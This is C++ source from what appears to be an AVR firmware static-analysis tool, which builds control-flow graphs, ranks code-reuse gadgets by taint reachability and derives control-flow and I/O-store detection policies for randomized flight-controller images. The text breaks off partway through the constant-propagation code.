#include "support/bytes.hpp"

namespace mavr::analysis {

namespace {

using avr::Op;

bool is_terminator(Op op) {
  switch (op) {
    case Op::Rjmp: case Op::Jmp: case Op::Ijmp: case Op::Eijmp:
    case Op::Ret: case Op::Reti: case Op::Break: case Op::Invalid:
    case Op::Brbs: case Op::Brbc:
    case Op::Cpse: case Op::Sbrc: case Op::Sbrs: case Op::Sbic: case Op::Sbis:
      return true;
    default:
      return false;
  }
}

bool is_skip(Op op) {
  return op == Op::Cpse || op == Op::Sbrc || op == Op::Sbrs ||
         op == Op::Sbic || op == Op::Sbis;
}

struct DecodedInstr {
  std::uint32_t offset = 0;
  avr::Instr in;
};

std::string fmt(const char* format, ...) {
  char buf[128];
  va_list args;
  va_start(args, format);
  std::vsnprintf(buf, sizeof(buf), format, args);
  va_end(args);
  return buf;
}

}  // namespace

const char* block_end_name(BlockEnd end) {
  switch (end) {
    case BlockEnd::kFallThrough: return "fall";
    case BlockEnd::kJump: return "jump";
    case BlockEnd::kBranch: return "branch";
    case BlockEnd::kSkip: return "skip";
    case BlockEnd::kRet: return "ret";
    case BlockEnd::kReti: return "reti";
    case BlockEnd::kIndirectJump: return "ijmp";
    case BlockEnd::kHalt: return "halt";
    case BlockEnd::kFault: return "fault";
    case BlockEnd::kTruncated: return "truncated";
    case BlockEnd::kFallsOffEnd: return "falls-off";
  }
  return "?";
}

std::uint32_t RegionCfg::n_edges() const {
  std::uint32_t edges = 0;
  for (const BasicBlock& b : blocks) {
    edges += static_cast<std::uint32_t>(b.succs.size());
  }
  return edges;
}

RegionCfg build_region_cfg(std::span<const std::uint8_t> code,
                           std::uint32_t base) {
  RegionCfg cfg;
  cfg.base = base;
  cfg.size = static_cast<std::uint32_t>(code.size());

  // Pass 1 — linear decode. A 32-bit instruction whose second word would
  // lie past the region end is recorded as truncated and stops the sweep:
  // there is no complete instruction to give to the decoder.
  std::vector<DecodedInstr> instrs;
  instrs.reserve(code.size() / 2);
  // word offset -> index into `instrs`, -1 for non-boundary words.
  std::vector<std::int32_t> word_to_idx(code.size() / 2, -1);
  bool truncated_tail = false;
  std::uint32_t truncated_at = 0;
  std::uint32_t pos = 0;
  while (pos + 2 <= cfg.size) {
    const std::uint16_t w1 = support::load_u16_le(code, pos);
    if (avr::is_two_word(w1) && pos + 4 > cfg.size) {
      cfg.truncated.push_back(pos);
      truncated_tail = true;
      truncated_at = pos;
      break;
    }
    const std::uint16_t w2 =
        (pos + 4 <= cfg.size) ? support::load_u16_le(code, pos + 2) : 0;
    const avr::Instr in = avr::decode(w1, w2);
    word_to_idx[pos / 2] = static_cast<std::int32_t>(instrs.size());
    instrs.push_back({pos, in});
    pos += in.size_words * 2u;
  }

  // Pass 2 — resolve targets, collect leaders and per-instruction edges.
  // Region-relative arithmetic keeps everything position-independent; only
  // absolute encodings (jmp/call) need `base` to come back to offsets.
  const auto on_boundary = [&](std::int64_t rel) {
    return rel >= 0 && rel < cfg.size && rel % 2 == 0 &&
           word_to_idx[static_cast<std::size_t>(rel) / 2] >= 0;
  };
  std::vector<std::uint8_t> leader(instrs.size(), 0);
  if (!instrs.empty()) leader[0] = 1;
  // Per-instruction resolved intra-region targets (branch/jump/skip).
  std::vector<std::vector<std::uint32_t>> targets(instrs.size());
  const auto add_target = [&](std::size_t i, std::int64_t rel,
                              std::uint32_t offset) {
    if (on_boundary(rel)) {
      const std::uint32_t t = static_cast<std::uint32_t>(rel);
      targets[i].push_back(t);
      leader[static_cast<std::size_t>(word_to_idx[t / 2])] = 1;
    } else {
      cfg.jumps_out.push_back(
          {offset, static_cast<std::int64_t>(base) + rel});
    }
  };
  for (std::size_t i = 0; i < instrs.size(); ++i) {
    const std::uint32_t o = instrs[i].offset;
    const avr::Instr& in = instrs[i].in;
    switch (in.op) {
      case Op::Rjmp:
      case Op::Brbs:
      case Op::Brbc:
        add_target(i, static_cast<std::int64_t>(o) + 2 + in.target * 2, o);
        break;
      case Op::Jmp:
        add_target(i,
                   static_cast<std::int64_t>(in.target) * 2 -
                       static_cast<std::int64_t>(base),
                   o);
        break;
      case Op::Rcall:
        cfg.calls.push_back(
            {o, o + 2, false,
             static_cast<std::int64_t>(base) + o + 2 + in.target * 2});
        break;
      case Op::Call:
        cfg.calls.push_back({o, o + static_cast<std::uint32_t>(in.size_words) * 2,
                             false, static_cast<std::int64_t>(in.target) * 2});
        break;
      case Op::Icall:
      case Op::Eicall:
        cfg.calls.push_back({o, o + 2, true, -1});
        break;
      case Op::Ijmp:
      case Op::Eijmp:
        cfg.indirect_jumps.push_back(o);
        break;
      case Op::Cpse:
      case Op::Sbrc:
      case Op::Sbrs:
      case Op::Sbic:
      case Op::Sbis: {
        // The skip distance depends on the *next* instruction's size.
        if (i + 1 < instrs.size()) {
          const std::uint32_t next = instrs[i + 1].offset;
          const std::uint32_t skip =
              next + static_cast<std::uint32_t>(instrs[i + 1].in.size_words) * 2;
          add_target(i, skip, o);
        }
        break;
      }
      default:
        break;
    }
    // The instruction after any terminator starts a block.
    if (is_terminator(in.op) && i + 1 < instrs.size()) leader[i + 1] = 1;
  }

  // Pass 3 — form blocks.
  BasicBlock block;
  bool open = false;
  const auto close = [&](std::uint32_t end, BlockEnd kind,
                         std::vector<std::uint32_t> succs) {
    block.end = end;
    block.end_kind = kind;
    std::sort(succs.begin(), succs.end());
    succs.erase(std::unique(succs.begin(), succs.end()), succs.end());
    block.succs = std::move(succs);
    cfg.blocks.push_back(std::move(block));
    block = BasicBlock{};
    open = false;
  };
  for (std::size_t i = 0; i < instrs.size(); ++i) {
    const std::uint32_t o = instrs[i].offset;
    const avr::Instr& in = instrs[i].in;
    const std::uint32_t next = o + static_cast<std::uint32_t>(in.size_words) * 2;
    if (open && leader[i]) close(o, BlockEnd::kFallThrough, {o});
    if (!open) {
      block.start = o;
      open = true;
    }
    ++block.n_instrs;
    if (!is_terminator(in.op)) continue;
    std::vector<std::uint32_t> succs = targets[i];
    switch (in.op) {
      case Op::Rjmp:
      case Op::Jmp:
        close(next, BlockEnd::kJump, std::move(succs));
        break;
      case Op::Brbs:
      case Op::Brbc:
      case Op::Cpse:
      case Op::Sbrc:
      case Op::Sbrs:
      case Op::Sbic:
      case Op::Sbis:
        // Fall-through edge exists only while there is an instruction there.
        if (i + 1 < instrs.size()) succs.push_back(instrs[i + 1].offset);
        close(next, is_skip(in.op) ? BlockEnd::kSkip : BlockEnd::kBranch,
              std::move(succs));
        break;
      case Op::Ret: close(next, BlockEnd::kRet, {}); break;
      case Op::Reti: close(next, BlockEnd::kReti, {}); break;
      case Op::Ijmp:
      case Op::Eijmp:
        close(next, BlockEnd::kIndirectJump, {});
        break;
      case Op::Break: close(next, BlockEnd::kHalt, {}); break;
      case Op::Invalid: close(next, BlockEnd::kFault, {}); break;
      default: break;
    }
  }
  if (open) {
    // The region ran out under us: either a straddling 32-bit instruction
    // (truncated) or plain fall-through into whatever bytes follow.
    close(truncated_tail ? truncated_at
                         : instrs.back().offset +
                               static_cast<std::uint32_t>(
                                   instrs.back().in.size_words) * 2,
          truncated_tail ? BlockEnd::kTruncated : BlockEnd::kFallsOffEnd, {});
  } else if (truncated_tail && cfg.blocks.empty()) {
    // Region *starts* with a straddling instruction: one empty block
    // records the fact so the CFG is never silently empty for a non-empty
    // region.
    block.start = truncated_at;
    open = true;
    close(truncated_at, BlockEnd::kTruncated, {});
  }

  std::sort(cfg.jumps_out.begin(), cfg.jumps_out.end(),
            [](const JumpOut& a, const JumpOut& b) {
              return a.offset < b.offset;
            });
  return cfg;
}

std::string format_cfg(const RegionCfg& cfg) {
  std::string out;
  out += fmt("region base=0x%x size=0x%x blocks=%zu edges=%u calls=%zu\n",
             cfg.base, cfg.size, cfg.blocks.size(), cfg.n_edges(),
             cfg.calls.size());
  for (const BasicBlock& b : cfg.blocks) {
    out += fmt("block 0x%x..0x%x instrs=%u end=%s", b.start, b.end,
               b.n_instrs, block_end_name(b.end_kind));
    if (!b.succs.empty()) {
      out += " ->";
      for (std::uint32_t s : b.succs) out += fmt(" 0x%x", s);
    }
    out += '\n';
  }
  for (const CallSite& c : cfg.calls) {
    if (c.indirect) {
      out += fmt("call 0x%x indirect\n", c.offset);
    } else {
      out += fmt("call 0x%x -> 0x%llx\n", c.offset,
                 static_cast<unsigned long long>(c.target));
    }
  }
  for (std::uint32_t o : cfg.indirect_jumps) out += fmt("ijmp 0x%x\n", o);
  for (const JumpOut& j : cfg.jumps_out) {
    out += fmt("jump-out 0x%x -> %s0x%llx\n", j.offset,
               j.target < 0 ? "-" : "",
               static_cast<unsigned long long>(
                   j.target < 0 ? -j.target : j.target));
  }
  for (std::uint32_t o : cfg.truncated) out += fmt("truncated 0x%x\n", o);
  return out;
}

}  // namespace mavr::analysis
