// Whole-image static analysis: CFG + dataflow + gadget reachability +
// derived detector policies, with content-addressed caching (DESIGN.md §15).
//
// The plane decomposes per *blob function*. Everything computed about one
// function is position-independent (offsets within the function, callees
// named by blob index), so the per-function work survives MAVR's
// randomization unchanged: a rerandomized image permutes block addresses
// and patches CALL/JMP target words, but every function's *canonical*
// bytes — targets masked out, re-expressed as (callee index, offset) —
// are identical. canonical_function_digest() is therefore a cache key
// that hits block-by-block across permutations (bench/analysis_throughput
// measures the resulting cold/cached gap).
//
// Three passes run over the per-function records:
//  * taint/dataflow — BFS over call edges, tail jumps, indirect-call
//    dispatch and RAM def/use pairs from the functions that read the
//    MAVLink RX register; every gadget site inherits the depth of its
//    containing function as weight 1/(1+depth) (weighted gadget census);
//  * privilege — each function's provable I/O-store footprint becomes a
//    per-function store policy (local constant propagation; an indirect
//    store not provably SRAM- or stack-targeted makes the function
//    io-unbounded, i.e. exempt);
//  * return edges — each function's legitimate RET targets are the
//    successors of the call sites that call it, closed over tail jumps
//    and indirect dispatch. A strict subset of the generic CFI set, so
//    the derived policy detects at least everything generic CFI does.
#pragma once

#include <cstdint>
#include <map>
#include <span>
#include <string>
#include <vector>

#include "analysis/cache.hpp"
#include "analysis/cfg.hpp"
#include "attack/gadgets.hpp"
#include "detect/policy.hpp"
#include "support/bytes.hpp"
#include "support/sha256.hpp"
#include "toolchain/image.hpp"

namespace mavr::analysis {

struct AnalyzeOptions {
  /// Data-space addresses whose *reads* make a function a taint source.
  /// Default: UDR0, the MAVLink RX register (firmware::Generator::kUartData).
  std::vector<std::uint16_t> taint_sources = {0xC6};
};

/// Byte-address → (function index, offset) resolver over a layout.
///
/// Indices are *blob* indices — positions in the arrays as given, which for
/// a randomized layout are NOT ascending by address (the blob keeps its
/// original order while the blocks move). Keeping blob indices stable
/// across layouts is what makes the canonical digests, FuncRecords and
/// PolicySet permutation-invariant; lookups go through an internal
/// address-sorted view.
class FuncIndex {
 public:
  FuncIndex(std::span<const std::uint32_t> addrs,
            std::span<const std::uint32_t> sizes);

  std::size_t count() const { return addrs_.size(); }
  std::uint32_t addr(std::size_t i) const { return addrs_[i]; }
  std::uint32_t size(std::size_t i) const { return sizes_[i]; }

  /// Blob indices in ascending-address order (for gap walks).
  const std::vector<std::uint32_t>& by_address() const { return order_; }

  /// Index of the function whose [addr, addr+size) contains `byte_addr`
  /// (offset written to `offset_out`), or -1.
  int containing(std::int64_t byte_addr, std::uint32_t* offset_out) const;

 private:
  std::vector<std::uint32_t> addrs_;  ///< blob order
  std::vector<std::uint32_t> sizes_;
  std::vector<std::uint32_t> order_;  ///< blob indices sorted by address
};

/// One call instruction, position-independent.
struct FuncCall {
  std::uint32_t offset = 0;      ///< of the call, within the caller
  std::uint32_t ret_offset = 0;  ///< of the instruction after it
  std::uint8_t indirect = 0;     ///< icall/eicall
  std::int32_t callee = -1;      ///< blob index; -1 = outside every function
  /// Byte offset into the callee; when callee == -1, the absolute target
  /// (which is stable: only function blocks move under randomization).
  std::uint32_t callee_offset = 0;
};

/// A jmp/rjmp/branch leaving the function (shared-tail jumps).
struct FuncTailJump {
  std::uint32_t offset = 0;
  std::int32_t callee = -1;
  std::uint32_t callee_offset = 0;
};

/// One gadget entry point within the function.
struct FuncGadget {
  std::uint32_t offset = 0;
  attack::GadgetKind kind = attack::GadgetKind::kRet;
  std::uint8_t pop_count = 0;
};

/// Everything the analysis knows about one function, in the
/// position-independent form the cache stores. The unit of reuse.
struct FuncRecord {
  std::uint32_t size = 0;
  std::uint32_t n_blocks = 0;
  std::uint32_t n_edges = 0;
  std::uint8_t indirect_jump_sites = 0;  ///< ijmp/eijmp count (saturates)
  /// CFG ends in fall-through/truncation: control can leave the function
  /// without a terminator, so no per-function policy derived from it is
  /// layout-stable. Never set for well-formed generated firmware.
  std::uint8_t open_ended = 0;
  std::uint8_t io_unbounded = 0;  ///< a store's target was not provable
  detect::IoBitset io_writes{};   ///< provable stores below 0x200
  detect::IoBitset io_reads{};    ///< provable loads below 0x200
  std::vector<FuncCall> calls;
  std::vector<FuncTailJump> tail_jumps;
  std::vector<std::uint16_t> ram_stores;  ///< provable SRAM stores, sorted
  std::vector<std::uint16_t> ram_loads;   ///< provable SRAM loads, sorted
  std::vector<FuncGadget> gadgets;        ///< ascending (offset, kind)
  attack::GadgetCensus census;            ///< of this function's bytes

  support::Bytes serialize() const;
  /// Throws support::Error on malformed bytes.
  static FuncRecord deserialize(std::span<const std::uint8_t> data);
};

/// Permutation-invariant digest of one function: its bytes with every
/// CALL/JMP target and pointer-slot value masked out, plus the masked
/// material re-expressed position-independently ((callee index, offset)
/// per site). Two layouts of the same program give every function the
/// same digest — the block-level cache key.
support::Sha256Digest canonical_function_digest(
    std::span<const std::uint8_t> image, std::uint32_t addr,
    std::uint32_t size, const FuncIndex& index,
    std::span<const toolchain::PointerSlot> slots);

/// Analyzes one function body (already sliced out of the image) into its
/// position-independent record. `addr` only labels the CFG base.
FuncRecord analyze_function(std::span<const std::uint8_t> body,
                            std::uint32_t addr, const FuncIndex& index);

/// One gadget site ranked by taint reachability.
struct RankedGadget {
  std::uint32_t byte_addr = 0;
  attack::GadgetKind kind = attack::GadgetKind::kRet;
  std::uint8_t pop_count = 0;
  std::int32_t func = -1;   ///< containing function; -1 = padding/gap
  std::int32_t depth = -1;  ///< taint BFS depth; -1 = unreachable
  double weight = 0.0;      ///< 1/(1+depth), 0 when unreachable
};

/// Whole-image analysis result.
struct AnalysisReport {
  support::Sha256Digest image_digest{};
  std::uint32_t text_end = 0;
  std::uint32_t n_functions = 0;
  std::uint32_t n_blocks = 0;
  std::uint32_t n_edges = 0;
  std::uint32_t call_edges = 0;           ///< resolved direct call edges
  std::uint32_t indirect_call_sites = 0;  ///< icall/eicall instructions
  std::uint32_t indirect_jump_sites = 0;  ///< ijmp/eijmp instructions
  std::uint32_t address_taken = 0;  ///< functions reachable via pointer slots
  std::vector<std::int32_t> taint_depth;  ///< per function; -1 unreachable
  std::uint32_t tainted_functions = 0;
  /// Assembled from the per-function records plus the inter-function gaps;
  /// equals a whole-image attack::GadgetFinder census (pinned by test).
  attack::GadgetCensus census;
  std::vector<RankedGadget> gadgets;  ///< ascending (byte_addr, kind)
  double weighted_total = 0.0;
  double weighted_ret = 0.0;
  double weighted_stk_move = 0.0;
  double weighted_write_mem = 0.0;
  detect::PolicySet policy;       ///< per-function derived policy
  std::uint32_t io_bounded = 0;   ///< functions with a closed I/O set
  std::uint32_t ret_bounded = 0;  ///< functions with closed return edges
  std::uint64_t cache_hits = 0;
  std::uint64_t cache_misses = 0;
};

/// Stable text rendering of everything semantic in a report (cache
/// counters excluded): byte-identical across cold and cached runs of the
/// same image — the bit-identity oracle the bench and tests compare.
std::string report_text(const AnalysisReport& report);

/// Machine-readable JSON (for mavr-analyze --json and the bench harness).
std::string report_json(const AnalysisReport& report);

/// The analysis plane's entry point. Stateless apart from the optional
/// cache; single-threaded by design (runs once per container, before any
/// trial fan-out).
class Analyzer {
 public:
  explicit Analyzer(AnalysisCache* cache = nullptr,
                    AnalyzeOptions options = {});

  AnalysisReport analyze(std::span<const std::uint8_t> image,
                         const toolchain::SymbolBlob& blob) const;

  AnalysisReport analyze(const toolchain::Image& image) const {
    return analyze(image.bytes, toolchain::SymbolBlob::from_image(image));
  }

 private:
  AnalysisCache* cache_;
  AnalyzeOptions options_;
  /// Decoded-record memo over the cache's serialized bytes: a batch run
  /// (many rerandomized images through one Analyzer) pays deserialization
  /// once per distinct function, not once per image. Grows with the set
  /// of distinct canonical digests seen, like the cache itself.
  mutable std::map<support::Sha256Digest, FuncRecord> decoded_;
};

}  // namespace mavr::analysis
