#include "analysis/analyze.hpp"

#include <algorithm>
#include <cstdarg>
#include <cstdio>
#include <deque>
#include <map>
#include <set>

#include "avr/decode.hpp"
#include "avr/mcu.hpp"
#include "support/error.hpp"

namespace mavr::analysis {

namespace {

using avr::Op;

std::string fmt(const char* format, ...) {
  char buf[160];
  va_list args;
  va_start(args, format);
  std::vsnprintf(buf, sizeof(buf), format, args);
  va_end(args);
  return buf;
}

void sort_unique(std::vector<std::uint16_t>& v) {
  std::sort(v.begin(), v.end());
  v.erase(std::unique(v.begin(), v.end()), v.end());
}

// --- Local constant propagation ---------------------------------------------
//
// Per-basic-block forward walk with all state reset at block leaders:
// within a block there are no incoming branches, so a linear transfer is
// exact for what it tracks. The domain is deliberately small — per
// register Unknown / Const(v) / SP-derived-low / SP-derived-high /
// HiMin(v) ("holds v or v+1", the high byte after one carry-unknown
// adc/sbci) plus a known/unknown carry — just enough to prove the three
// pointer shapes the generated firmware uses for stores:
//
//   ldi pairs (+adiw/add/adc with the zero reg)  -> Const / hi-byte >= 2
//   in r28,SPL ; in r29,SPH ; sbiw               -> SP-derived (stack)
//
// Soundness direction matters: classifying a store as "SRAM, ignore"
// when it could hit I/O at run time would make the derived policy miss a
// legitimate store => false positive. Const and hi-byte>=2 (with the
// 0xFF wrap excluded) are genuine proofs. SP-derived frames are treated
// as stack by the same invariant the SP-bounds detector enforces — on a
// clean flight SP never leaves SRAM. Anything else marks the function
// io-unbounded (policy allows everything: less tight, never wrong).

struct AbsVal {
  enum Kind : std::uint8_t { kUnknown, kConst, kSpLo, kSpHi, kHiMin };
  Kind kind = kUnknown;
  std::uint8_t v = 0;
};

struct AbsState {
  AbsVal reg[32];
  bool carry_known = false;
  std::uint8_t carry = 0;

  void reset() { *this = AbsState{}; }
  void kill(unsigned r) { reg[r] = AbsVal{}; }
  void kill_carry() { carry_known = false; }
  void set_const(unsigned r, std::uint8_t v) {
    reg[r] = {AbsVal::kConst, v};
  }
  void set_carry(std::uint8_t c) {
    carry_known = true;
    carry = c;
  }
};

enum class PtrClass : std::uint8_t { kUnknown, kConst, kStack, kRamHigh };

struct PtrVal {
  PtrClass cls = PtrClass::kUnknown;
  std::uint16_t addr = 0;
};

PtrVal eval_pair(const AbsState& s, unsigned lo_reg) {
  const AbsVal& lo = s.reg[lo_reg];
  const AbsVal& hi = s.reg[lo_reg + 1];
  if (lo.kind == AbsVal::kConst && hi.kind == AbsVal::kConst) {
    return {PtrClass::kConst,
            static_cast<std::uint16_t>(lo.v | (hi.v << 8))};
  }
  if (hi.kind == AbsVal::kSpHi) return {PtrClass::kStack, 0};
  // hi >= 2 pins the address into [0x200, ..): provably SRAM whatever the
  // low byte holds. 0xFF is excluded so displacement/post-increment
  // arithmetic cannot wrap below 0x200.
  if (hi.kind == AbsVal::kConst && hi.v >= 2 && hi.v < 0xFF) {
    return {PtrClass::kRamHigh, 0};
  }
  if (hi.kind == AbsVal::kHiMin && hi.v >= 2 && hi.v < 0xFE) {
    return {PtrClass::kRamHigh, 0};
  }
  return {PtrClass::kUnknown, 0};
}

/// Collects the facts the walk proves into the record being built.
struct FactSink {
  FuncRecord* rec;

  void io_write(std::uint16_t addr) {
    if (addr < detect::kPolicyIoSpan) detect::io_bit_set(rec->io_writes, addr);
  }
  void io_read(std::uint16_t addr) {
    if (addr < detect::kPolicyIoSpan) detect::io_bit_set(rec->io_reads, addr);
  }
  void store(const PtrVal& p, std::uint16_t disp) {
    switch (p.cls) {
      case PtrClass::kConst: {
        const std::uint16_t addr = static_cast<std::uint16_t>(p.addr + disp);
        if (addr < detect::kPolicyIoSpan) {
          io_write(addr);
        } else {
          rec->ram_stores.push_back(addr);
        }
        break;
      }
      case PtrClass::kStack:
      case PtrClass::kRamHigh:
        break;  // provably outside the policed window
      case PtrClass::kUnknown:
        rec->io_unbounded = 1;
        break;
    }
  }
  void load(const PtrVal& p, std::uint16_t disp) {
    if (p.cls != PtrClass::kConst) return;  // loads are never policed
    const std::uint16_t addr = static_cast<std::uint16_t>(p.addr + disp);
    if (addr < detect::kPolicyIoSpan) {
      io_read(addr);
    } else {
      rec->ram_loads.push_back(addr);
    }
  }
};

/// Post-increment / pre-decrement pointer updates, keeping whatever class
/// survives the arithmetic.
void bump_pair(AbsState& s, unsigned lo_reg, int delta) {
  AbsVal& lo = s.reg[lo_reg];
  AbsVal& hi = s.reg[lo_reg + 1];
  if (lo.kind == AbsVal::kConst && hi.kind == AbsVal::kConst) {
    const std::uint16_t v = static_cast<std::uint16_t>(
        (lo.v | (hi.v << 8)) + delta);
    lo.v = static_cast<std::uint8_t>(v & 0xFF);
    hi.v = static_cast<std::uint8_t>(v >> 8);
    return;
  }
  if (hi.kind == AbsVal::kSpHi) return;  // stack stays stack
  if (hi.kind == AbsVal::kConst || hi.kind == AbsVal::kHiMin) {
    // One step can carry/borrow into the high byte at most once.
    const std::uint8_t base =
        delta >= 0 ? hi.v : static_cast<std::uint8_t>(hi.v - 1);
    hi = {AbsVal::kHiMin, base};
    lo = AbsVal{};
    return;
  }
  lo = AbsVal{};
  hi = AbsVal{};
}

void clobber_call(AbsState& s) {
  // avr-gcc call-clobbered set: r0, r1 (mul scratch), r18-r27, r30, r31.
  // Y (r28/r29) and r2-r17 are callee-saved and keep their facts.
  s.kill(0);
  s.kill(1);
  for (unsigned r = 18; r <= 27; ++r) s.kill(r);
  s.kill(30);
  s.kill(31);
  s.kill_carry();
}

/// Transfer function for one instruction.
void step(AbsState& s, const avr::Instr& in, FactSink& sink) {
  const unsigned rd = in.rd;
  const unsigned rr = in.rr;
  const AbsVal a = s.reg[rd];
  const AbsVal b = s.reg[rr];
  const bool cc = a.kind == AbsVal::kConst && b.kind == AbsVal::kConst;
  switch (in.op) {
    case Op::Ldi:
      s.set_const(rd, static_cast<std::uint8_t>(in.k));
      break;
    case Op::Mov:
      s.reg[rd] = b;
      break;
    case Op::Movw:
      s.reg[rd] = s.reg[rr];
      s.reg[rd + 1] = s.reg[rr + 1];
      break;
    case Op::Eor:
      if (rd == rr) {
        s.set_const(rd, 0);
      } else if (cc) {
        s.set_const(rd, a.v ^ b.v);
      } else {
        s.kill(rd);
      }
      break;
    case Op::Add:
      if (cc) {
        const unsigned sum = a.v + b.v;
        s.set_const(rd, static_cast<std::uint8_t>(sum));
        s.set_carry(sum > 0xFF ? 1 : 0);
      } else {
        s.kill(rd);
        s.kill_carry();
      }
      break;
    case Op::Adc:
      if (cc && s.carry_known) {
        const unsigned sum = a.v + b.v + s.carry;
        s.set_const(rd, static_cast<std::uint8_t>(sum));
        s.set_carry(sum > 0xFF ? 1 : 0);
      } else if (cc && a.v + b.v < 0xFF) {
        // Result is sum or sum+1 — the HiMin shape that keeps a
        // ldi-pair + add/adc pointer's high byte provable.
        s.reg[rd] = {AbsVal::kHiMin, static_cast<std::uint8_t>(a.v + b.v)};
        s.set_carry(0);
      } else {
        s.kill(rd);
        s.kill_carry();
      }
      break;
    case Op::Sub:
      if (cc) {
        s.set_const(rd, static_cast<std::uint8_t>(a.v - b.v));
        s.set_carry(b.v > a.v ? 1 : 0);
      } else {
        s.kill(rd);
        s.kill_carry();
      }
      break;
    case Op::Subi:
      if (a.kind == AbsVal::kConst) {
        const std::uint8_t k = static_cast<std::uint8_t>(in.k);
        s.set_const(rd, static_cast<std::uint8_t>(a.v - k));
        s.set_carry(k > a.v ? 1 : 0);
      } else {
        s.kill(rd);
        s.kill_carry();
      }
      break;
    case Op::Sbci:
      if (a.kind == AbsVal::kConst) {
        const std::uint8_t k = static_cast<std::uint8_t>(in.k);
        if (s.carry_known) {
          const unsigned sub = k + s.carry;
          s.set_const(rd, static_cast<std::uint8_t>(a.v - sub));
          s.set_carry(sub > a.v ? 1 : 0);
          break;
        }
        if (a.v >= k + 1u) {  // no borrow whatever the carry was
          s.reg[rd] = {AbsVal::kHiMin,
                       static_cast<std::uint8_t>(a.v - k - 1)};
          s.set_carry(0);
          break;
        }
      }
      s.kill(rd);
      s.kill_carry();
      break;
    case Op::Sbc:
      if (cc && s.carry_known) {
        const unsigned sub = b.v + s.carry;
        s.set_const(rd, static_cast<std::uint8_t>(a.v - sub));
        s.set_carry(sub > a.v ? 1 : 0);
      } else {
        s.kill(rd);
        s.kill_carry();
      }
      break;
    case Op::Andi:
      if (a.kind == AbsVal::kConst) {
        s.set_const(rd, a.v & static_cast<std::uint8_t>(in.k));
      } else {
        s.kill(rd);
      }
      break;
    case Op::Ori:
      if (a.kind == AbsVal::kConst) {
        s.set_const(rd, a.v | static_cast<std::uint8_t>(in.k));
      } else {
        s.kill(rd);
      }
      break;
    case Op::And:
      if (cc) s.set_const(rd, a.v & b.v); else s.kill(rd);
      break;
    case Op::Or:
      if (cc) s.set_const(rd, a.v | b.v); else s.kill(rd);
      break;
    case Op::Com:
      if (a.kind == AbsVal::kConst) s.set_const(rd, ~a.v); else s.kill(rd);
      s.set_carry(1);  // COM always sets C
      break;
    case Op::Neg:
      if (a.kind == AbsVal::kConst) {
        s.set_const(rd, static_cast<std::uint8_t>(-a.v));
        s.set_carry(a.v != 0 ? 1 : 0);
      } else {
        s.kill(rd);
        s.kill_carry();
      }
      break;
    case Op::Inc:
      if (a.kind == AbsVal::kConst) {
        s.set_const(rd, static_cast<std::uint8_t>(a.v + 1));
      } else {
        s.kill(rd);
      }
      break;
    case Op::Dec:
      if (a.kind == AbsVal::kConst) {
        s.set_const(rd, static_cast<std::uint8_t>(a.v - 1));
      } else {
        s.kill(rd);
      }
      break;
    case Op::Swap:
      if (a.kind == AbsVal::kConst) {
        s.set_const(rd, static_cast<std::uint8_t>((a.v << 4) | (a.v >> 4)));
      } else {
        s.kill(rd);
      }
      break;
    case Op::Lsr:
      if (a.kind == AbsVal::kConst) {
        s.set_const(rd, a.v >> 1);
        s.set_carry(a.v & 1);
      } else {
        s.kill(rd);
        s.kill_carry();
      }
      break;
    case Op::Asr:
      if (a.kind == AbsVal::kConst) {
        s.set_const(rd, static_cast<std::uint8_t>(
                            (a.v >> 1) | (a.v & 0x80)));
        s.set_carry(a.v & 1);
      } else {
        s.kill(rd);
        s.kill_carry();
      }
      break;
    case Op::Ror:
      if (a.kind == AbsVal::kConst && s.carry_known) {
        const std::uint8_t out_c = a.v & 1;
        s.set_const(rd, static_cast<std::uint8_t>(
                            (a.v >> 1) | (s.carry << 7)));
        s.set_carry(out_c);
      } else {
        const bool c_known = a.kind == AbsVal::kConst;
        const std::uint8_t c = a.v & 1;
        s.kill(rd);
        if (c_known) s.set_carry(c); else s.kill_carry();
      }
      break;
    case Op::Mul:
      s.kill(0);
      s.kill(1);
      s.kill_carry();
      break;
    case Op::Adiw:
    case Op::Sbiw: {
      const int delta = (in.op == Op::Adiw) ? in.k : -in.k;
      AbsVal& lo = s.reg[rd];
      AbsVal& hi = s.reg[rd + 1];
      if (lo.kind == AbsVal::kConst && hi.kind == AbsVal::kConst) {
        const unsigned v = static_cast<unsigned>(lo.v | (hi.v << 8));
        const std::uint16_t r = static_cast<std::uint16_t>(
            static_cast<int>(v) + delta);
        lo.v = static_cast<std::uint8_t>(r & 0xFF);
        hi.v = static_cast<std::uint8_t>(r >> 8);
        s.set_carry(in.op == Op::Adiw ? (v + in.k > 0xFFFF ? 1 : 0)
                                      : (in.k > v ? 1 : 0));
      } else if (hi.kind == AbsVal::kSpHi) {
        // SP-derived frame arithmetic keeps the stack classification.
        s.kill_carry();
      } else {
        bump_pair(s, rd, delta);
        s.kill_carry();
      }
      break;
    }
    case Op::Cp:
    case Op::Cpi:
      if (in.op == Op::Cpi ? a.kind == AbsVal::kConst : cc) {
        const std::uint8_t k =
            in.op == Op::Cpi ? static_cast<std::uint8_t>(in.k) : b.v;
        s.set_carry(k > a.v ? 1 : 0);
      } else {
        s.kill_carry();
      }
      break;
    case Op::Cpc:
      s.kill_carry();
      break;
    case Op::In:
      sink.io_read(static_cast<std::uint16_t>(in.k + avr::kIoBase));
      if (in.k == avr::kIoSpl) {
        s.reg[rd] = {AbsVal::kSpLo, 0};
      } else if (in.k == avr::kIoSph) {
        s.reg[rd] = {AbsVal::kSpHi, 0};
      } else {
        s.kill(rd);
      }
      break;
    case Op::Out:
      sink.io_write(static_cast<std::uint16_t>(in.k + avr::kIoBase));
      break;
    case Op::Sbi:
    case Op::Cbi:
      sink.io_write(static_cast<std::uint16_t>(in.k + avr::kIoBase));
      break;
    case Op::Sbic:
    case Op::Sbis:
      sink.io_read(static_cast<std::uint16_t>(in.k + avr::kIoBase));
      break;
    case Op::Lds:
      if (in.k < detect::kPolicyIoSpan) {
        sink.io_read(in.k);
      } else {
        sink.rec->ram_loads.push_back(in.k);
      }
      s.kill(rd);
      break;
    case Op::Sts:
      if (in.k < detect::kPolicyIoSpan) {
        sink.io_write(in.k);
      } else {
        sink.rec->ram_stores.push_back(in.k);
      }
      break;
    case Op::LdX:
      sink.load(eval_pair(s, 26), 0);
      s.kill(rd);
      break;
    case Op::LdXInc:
      sink.load(eval_pair(s, 26), 0);
      bump_pair(s, 26, 1);
      s.kill(rd);
      break;
    case Op::LdXDec:
      bump_pair(s, 26, -1);
      sink.load(eval_pair(s, 26), 0);
      s.kill(rd);
      break;
    case Op::LdYInc:
      sink.load(eval_pair(s, 28), 0);
      bump_pair(s, 28, 1);
      s.kill(rd);
      break;
    case Op::LdYDec:
